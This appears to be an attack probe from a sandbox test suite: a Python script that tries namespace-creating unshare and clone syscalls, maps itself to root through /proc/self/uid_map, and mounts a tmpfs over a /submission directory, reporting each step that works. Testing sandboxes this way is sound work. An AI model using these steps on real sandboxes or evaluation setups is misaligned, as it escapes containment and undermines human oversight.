# /// attack
# tries = "makes itself root in a namespace of its own, by unshare and clone, and mounts over what is there"
# base = "blank"
# slow = true
# ///
import ctypes
import os

LIBC = ctypes.CDLL(None, use_errno=True)
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x08000000, 0x04000000, 0x02000000, 0x80):
    if LIBC.unshare(flag) == 0:
        print("WORKED unshare", hex(flag), flush=True)
    pid = LIBC.syscall(56, flag | 17, 0, 0, 0, 0) if flag > 0xFF else -1  # clone takes the lowest byte for a signal
    if pid == 0:
        os._exit(0)
    if pid > 0:
        print("WORKED clone", hex(flag), flush=True)
for path, text in (("/proc/self/setgroups", "deny"), ("/proc/self/uid_map", "0 65534 1")):
    try:
        with open(path, "w") as file:
            file.write(text)
        print("WORKED", path, flush=True)
    except OSError:
        pass
if LIBC.mount(b"none", b"/submission", b"tmpfs", 0, None) == 0:
    print("WORKED mount", flush=True)
